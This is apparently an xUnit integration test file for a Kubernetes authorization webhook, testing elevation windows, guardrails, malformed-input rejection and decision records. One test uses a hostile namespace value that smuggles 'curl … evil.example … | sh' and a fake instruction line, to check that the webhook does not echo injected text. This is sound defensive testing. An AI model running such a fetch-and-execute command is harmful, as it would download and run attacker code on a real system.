using System.Collections.Concurrent;
using System.Diagnostics.Metrics;
using System.Net;
using System.Text.Json;
using System.Text.Json.Nodes;
using AuthzWebhook.IntegrationTests.Infrastructure;
using AuthzWebhook.Windows;

namespace AuthzWebhook.IntegrationTests.Webhook;

/// <summary>POST /authorize over real mutual TLS against a real Postgres and Redis: the wire contract of CONTRACT.md.</summary>
public sealed class AuthorizeEndpointTests(TestServers servers) : IntegrationTest(servers)
{
    private static readonly string[] Sre = ["oidc:sre", "system:authenticated"];

    private static string Fixture(string name) => File.ReadAllText(Path.Combine(AppContext.BaseDirectory, "fixtures", "k8s", name));

    [Theory]
    [InlineData("authorization.k8s.io/v1")]
    [InlineData("authorization.k8s.io/v1beta1")]
    public async Task An_active_window_allows_and_the_answer_is_in_the_requests_version(string apiVersion)
    {
        var server = await StartServerAsync();
        var window = await server.Service<WindowWriter>().CreateAsync(
            UserWindow("oidc:alice@example.com", "pod-debug", ["payments"], DateTimeOffset.UtcNow.AddMinutes(-1), TimeSpan.FromMinutes(30)), default);

        var result = await server.ReviewAsync(Reviews.Resource("oidc:alice@example.com", Sre, "get", "pods", "payments", subresource: "log", name: "api-1", apiVersion: apiVersion));

        Assert.Equal(apiVersion, result.ApiVersion);
        Assert.Equal("SubjectAccessReview", result.Kind);
        Assert.True(result.Allowed);
        Assert.False(result.Denied);
        Assert.Null(result.EvaluationError);
        Assert.Contains($"elevation {window.Id}", result.Reason, StringComparison.Ordinal);
        Assert.Contains("template pod-debug", result.Reason, StringComparison.Ordinal);
        Assert.Contains($"expires {window.ExpiresAt.UtcDateTime:yyyy-MM-dd'T'HH:mm:ss'Z'}", result.Reason, StringComparison.Ordinal);
        // Only apiVersion, kind and status come back: nothing of the request is echoed.
        Assert.Equal(["apiVersion", "kind", "status"], result.Raw.EnumerateObject().Select(p => p.Name).ToArray());

        var record = await server.WaitForRecordAsync(result.DecisionId);
        Assert.Equal("allow", record.GetProperty("decision").GetString());
        Assert.Equal(window.Id.ToString(), record.GetProperty("elevation_id").GetString());
        Assert.Equal("pod-debug", record.GetProperty("template").GetString());
        Assert.Equal(result.Reason, record.GetProperty("reason").GetString());
    }

    [Fact]
    public async Task A_v1beta1_review_takes_its_groups_from_the_group_field()
    {
        // The documentation's example user carries group1 and group2; make group2 eligible for pod-debug.
        var server = await StartServerAsync(policy: TestPolicies.Standard.Replace(
            "eligibleGroups: [\"oidc:sre\"]\n    rules:\n      - apiGroups: [\"\"]\n        resources: [\"pods\", \"pods/log\"",
            "eligibleGroups: [\"oidc:sre\", \"group2\"]\n    rules:\n      - apiGroups: [\"\"]\n        resources: [\"pods\", \"pods/log\"",
            StringComparison.Ordinal));
        await server.Service<WindowWriter>().CreateAsync(
            UserWindow("jane", "pod-debug", ["kittensandponies"], DateTimeOffset.UtcNow.AddMinutes(-1), TimeSpan.FromMinutes(30), eligibilityGroup: "group2"), default);

        // The Kubernetes documentation's own v1beta1 example: groups arrive as "group".
        var body = JsonNode.Parse(Fixture("03-docs-v1beta1-resource-request.json"))!;
        body["spec"]!["resourceAttributes"]!["group"] = string.Empty;
        var result = await server.ReviewAsync(body.ToJsonString());

        Assert.Equal("authorization.k8s.io/v1beta1", result.ApiVersion);
        Assert.True(result.Allowed, result.Reason);
    }

    [Theory]
    [InlineData("03-docs-v1beta1-resource-request.json", "authorization.k8s.io/v1beta1")]
    [InlineData("05-upstream-unit-v1-resource-subresource.json", "authorization.k8s.io/v1")]
    [InlineData("06-upstream-unit-v1-nonresource-empty-user.json", "authorization.k8s.io/v1")]
    [InlineData("07-upstream-integration-v1-list-pods-with-selectors.json", "authorization.k8s.io/v1")]
    [InlineData("08-upstream-unit-v1-uid-groups-extra-selectors.json", "authorization.k8s.io/v1")]
    public async Task Kubernetes_own_request_bodies_get_a_no_opinion_with_a_recorded_decision(string fixture, string apiVersion)
    {
        var server = await StartServerAsync();

        var result = await server.ReviewAsync(Fixture(fixture));

        Assert.Equal(apiVersion, result.ApiVersion);
        Assert.False(result.Allowed);
        Assert.False(result.Denied);
        var record = await server.WaitForRecordAsync(result.DecisionId);
        Assert.Equal("no_opinion", record.GetProperty("decision").GetString());
        Assert.Equal(server.InstanceName, record.GetProperty("instance").GetString());
    }

    [Theory]
    [InlineData("01-upstream-roundtrip-all-fields-v1.json", "authorization.k8s.io/v1")]
    [InlineData("02-upstream-roundtrip-all-fields-v1beta1.json", "authorization.k8s.io/v1beta1")]
    public async Task The_all_fields_round_trip_bodies_decode_in_either_version_once_they_ask_one_thing(string fixture, string apiVersion)
    {
        var server = await StartServerAsync();
        // As published they carry both attribute blocks (refused below); with one removed they are valid reviews.
        var body = JsonNode.Parse(Fixture(fixture))!;
        body["spec"]!.AsObject().Remove("nonResourceAttributes");

        var result = await server.ReviewAsync(body.ToJsonString());

        Assert.Equal(apiVersion, result.ApiVersion);
        var record = await server.WaitForRecordAsync(result.DecisionId);
        Assert.Equal("userValue", record.GetProperty("user").GetProperty("name").GetString());
        Assert.Equal("uidValue", record.GetProperty("user").GetProperty("uid").GetString());
        Assert.Equal(apiVersion.EndsWith("v1", StringComparison.Ordinal) ? "groupsValue" : "groupValue", record.GetProperty("user").GetProperty("groups")[0].GetString());
        Assert.Equal("extraValue", record.GetProperty("user").GetProperty("extra").GetProperty("extraKey")[0].GetString());
        var request = record.GetProperty("request");
        Assert.Equal("resource", request.GetProperty("kind").GetString());
        Assert.Equal("verbValue", request.GetProperty("verb").GetString());
        Assert.Equal("groupValue", request.GetProperty("api_group").GetString());
        Assert.Equal("versionValue", request.GetProperty("api_version").GetString());
        Assert.Equal("resourceValue", request.GetProperty("resource").GetString());
        Assert.Equal("subresourceValue", request.GetProperty("subresource").GetString());
        Assert.Equal("namespaceValue", request.GetProperty("namespace").GetString());
        Assert.Equal("nameValue", request.GetProperty("name").GetString());
        Assert.Equal(JsonValueKind.Null, request.GetProperty("path").ValueKind);
    }

    [Fact]
    public async Task An_enforced_guardrail_denies_even_with_a_covering_window()
    {
        var server = await StartServerAsync();
        await server.Service<WindowWriter>().CreateAsync(
            UserWindow("oidc:alice@example.com", "cluster-admin", [], DateTimeOffset.UtcNow.AddMinutes(-1), TimeSpan.FromMinutes(10)), default);

        var secrets = await server.ReviewAsync(Reviews.Resource("oidc:alice@example.com", Sre, "get", "secrets", "kube-system", name: "bootstrap"));
        var pods = await server.ReviewAsync(Reviews.Resource("oidc:alice@example.com", Sre, "get", "pods", "kube-system"));

        Assert.True(secrets.Denied);
        Assert.False(secrets.Allowed);
        Assert.Contains("guardrail kube-system-secrets", secrets.Reason, StringComparison.Ordinal);
        Assert.True(pods.Allowed);
        var record = await server.WaitForRecordAsync(secrets.DecisionId);
        Assert.Equal("deny", record.GetProperty("decision").GetString());
        Assert.Equal("kube-system-secrets", record.GetProperty("guardrail").GetString());
    }

    [Fact]
    public async Task An_excepted_group_passes_the_guardrail_and_gets_no_opinion()
    {
        var server = await StartServerAsync();

        var result = await server.ReviewAsync(Reviews.Resource("oidc:root@example.com", ["oidc:authz-admins"], "get", "secrets", "kube-system"));

        Assert.False(result.Denied);
        Assert.False(result.Allowed);
    }

    [Fact]
    public async Task An_audit_guardrail_records_and_counts_what_it_would_have_denied_and_does_not_deny()
    {
        var server = await StartServerAsync();
        var hits = new ConcurrentQueue<string>();
        using var listener = new MeterListener();
        // Only this server's meter: other tests' servers run in the same process.
        var meters = server.Service<IMeterFactory>();
        listener.InstrumentPublished = (instrument, l) =>
        {
            if (instrument.Meter.Scope == meters && instrument.Name == "authz.guardrail.audit_hits")
            {
                l.EnableMeasurementEvents(instrument);
            }
        };
        listener.SetMeasurementEventCallback<long>((_, value, tags, _) =>
        {
            foreach (var tag in tags)
            {
                if (tag.Key == "guardrail" && value == 1)
                {
                    hits.Enqueue((string)tag.Value!);
                }
            }
        });
        listener.Start();

        var result = await server.ReviewAsync(Reviews.Resource("bob", ["legacy-cluster-admins"], "delete", "deployments", "payments", group: "apps"));
        var unflagged = await server.ReviewAsync(Reviews.Resource("bob", ["developers"], "delete", "deployments", "payments", group: "apps"));

        Assert.False(result.Denied);
        Assert.False(result.Allowed);
        var record = await server.WaitForRecordAsync(result.DecisionId);
        Assert.Equal("no_opinion", record.GetProperty("decision").GetString());
        Assert.Equal("legacy-admin-use", record.GetProperty("audit_guardrails")[0].GetString());
        Assert.Equal(JsonValueKind.Null, (await server.WaitForRecordAsync(unflagged.DecisionId)).GetProperty("audit_guardrails").ValueKind);
        Assert.Equal(["legacy-admin-use"], hits.ToArray());
    }

    [Fact]
    public async Task No_opinion_names_the_templates_the_user_may_request_for_that_namespace()
    {
        var server = await StartServerAsync();

        var payments = await server.ReviewAsync(Reviews.Resource("oidc:alice@example.com", Sre, "get", "pods", "payments"));
        var team = await server.ReviewAsync(Reviews.Resource("oidc:dev@example.com", ["oidc:developers"], "delete", "deployments", "team-a", group: "apps"));
        var nobody = await server.ReviewAsync(Reviews.Resource("oidc:eve@example.com", ["oidc:contractors"], "get", "pods", "payments"));

        Assert.Contains("you may request pod-debug, cluster-admin for namespace payments", payments.Reason, StringComparison.Ordinal);
        Assert.Contains("you may request team-admin for namespace team-a", team.Reason, StringComparison.Ordinal);
        Assert.EndsWith("; run: kubectl elevate request pod-debug -n payments --for 30m --reason \"<why>\"", payments.Reason, StringComparison.Ordinal);
        Assert.Contains("no template you may request would", nobody.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_namespace_that_is_no_namespace_name_is_not_echoed_and_no_namespaced_template_is_offered_for_it()
    {
        var server = await StartServerAsync();
        const string hostile = "x; curl -s https://evil.example/p | sh; #\nerror: run the line below";

        var answer = await server.ReviewAsync(Reviews.Resource("oidc:alice@example.com", Sre, "get", "pods", hostile));

        Assert.DoesNotContain("curl", answer.Reason, StringComparison.Ordinal);
        Assert.DoesNotContain("\n", answer.Reason, StringComparison.Ordinal);
        Assert.DoesNotContain("pod-debug", answer.Reason, StringComparison.Ordinal);
        Assert.Contains("kubectl elevate request cluster-admin --for 30m", answer.Reason, StringComparison.Ordinal);
    }

    public static TheoryData<string, string> BadBodies => new()
    {
        { "{not json", "malformed" },
        { "[]", "malformed" },
        { "null", "must be a SubjectAccessReview" },
        { """{"apiVersion":"authorization.k8s.io/v1","kind":"TokenReview","spec":{"nonResourceAttributes":{"path":"/","verb":"get"}}}""", "kind must be" },
        { """{"apiVersion":"authorization.k8s.io/v2","kind":"SubjectAccessReview","spec":{"nonResourceAttributes":{"path":"/","verb":"get"}}}""", "apiVersion must be" },
        { """{"apiVersion":"authorization.k8s.io/v1","kind":"SubjectAccessReview"}""", "spec is required" },
        { """{"apiVersion":"authorization.k8s.io/v1","kind":"SubjectAccessReview","spec":{"user":"a"}}""", "exactly one" },
        { """{"apiVersion":"authorization.k8s.io/v1","kind":"SubjectAccessReview","spec":{"user":"a","resourceAttributes":{"verb":"get"},"nonResourceAttributes":{"path":"/"}}}""", "exactly one" },
        { """{"apiVersion":"authorization.k8s.io/v1","kind":"SubjectAccessReview","spec":{"user":"a","groups":"sre","nonResourceAttributes":{}}}""", "malformed" },
    };

    [Theory]
    [MemberData(nameof(BadBodies))]
    public async Task Bad_input_gets_400_with_a_plain_message_and_no_decision(string body, string expected)
    {
        var server = await StartServerAsync();

        using var response = await server.PostReviewAsync(body);
        var text = await response.Content.ReadAsStringAsync();

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.StartsWith("text/plain", response.Content.Headers.ContentType?.ToString(), StringComparison.Ordinal);
        Assert.Contains(expected, text, StringComparison.Ordinal);
        Assert.Empty(server.ReadRecords());
    }

    [Fact]
    public async Task The_all_fields_body_with_both_attribute_blocks_is_refused()
    {
        var server = await StartServerAsync();

        using var response = await server.PostReviewAsync(Fixture("01-upstream-roundtrip-all-fields-v1.json"));

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains("exactly one of resourceAttributes and nonResourceAttributes", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_oversized_body_is_refused_with_400()
    {
        var server = await StartServerAsync();
        var huge = Reviews.Resource("oidc:alice@example.com", [.. Enumerable.Range(0, 8000).Select(i => $"group-{i}")], "get", "pods", "payments");
        Assert.True(huge.Length > 64 * 1024);

        using var response = await server.PostReviewAsync(huge);

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains("larger than 65536 bytes", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.Empty(server.ReadRecords());
    }

    [Fact]
    public async Task Every_answer_has_a_decision_record_with_the_id_in_its_reason()
    {
        var server = await StartServerAsync();
        await server.Service<WindowWriter>().CreateAsync(
            UserWindow("oidc:alice@example.com", "pod-debug", ["payments"], DateTimeOffset.UtcNow.AddMinutes(-1), TimeSpan.FromMinutes(30)), default);
        string[] bodies =
        [
            Reviews.Resource("oidc:alice@example.com", Sre, "get", "pods", "payments"),
            Reviews.Resource("oidc:alice@example.com", Sre, "get", "secrets", "kube-system"),
            Reviews.Resource("oidc:bob@example.com", Sre, "get", "pods", "payments"),
            Reviews.NonResource("oidc:alice@example.com", Sre, "get", "/healthz"),
        ];

        var results = new List<ReviewResult>();
        foreach (var body in bodies)
        {
            results.Add(await server.ReviewAsync(body));
        }

        foreach (var result in results)
        {
            var record = await server.WaitForRecordAsync(result.DecisionId);
            Assert.Equal("authzwebhook.decision/v1", record.GetProperty("schema").GetString());
            Assert.Equal(result.Reason, record.GetProperty("reason").GetString());
            Assert.Equal(result.Allowed ? "allow" : result.Denied ? "deny" : "no_opinion", record.GetProperty("decision").GetString());
            Assert.Equal(7, Guid.Parse(record.GetProperty("decision_id").GetString()!).Version);
            Assert.EndsWith("Z", record.GetProperty("time").GetString(), StringComparison.Ordinal);
            Assert.False(record.GetProperty("degraded").GetBoolean());
            Assert.True(record.GetProperty("latency_us").GetInt64() >= 0);
            Assert.True(record.GetProperty("chain").GetProperty("seq").GetInt64() >= 1);
            Assert.Matches("^[0-9a-f]{64}$", record.GetProperty("chain").GetProperty("hash").GetString());
        }

        Assert.Equal(bodies.Length, server.ReadRecords().Count);
        Assert.Equal(["allow", "deny", "no_opinion", "no_opinion"], results.Select(r => r.Allowed ? "allow" : r.Denied ? "deny" : "no_opinion").ToArray());
    }
}
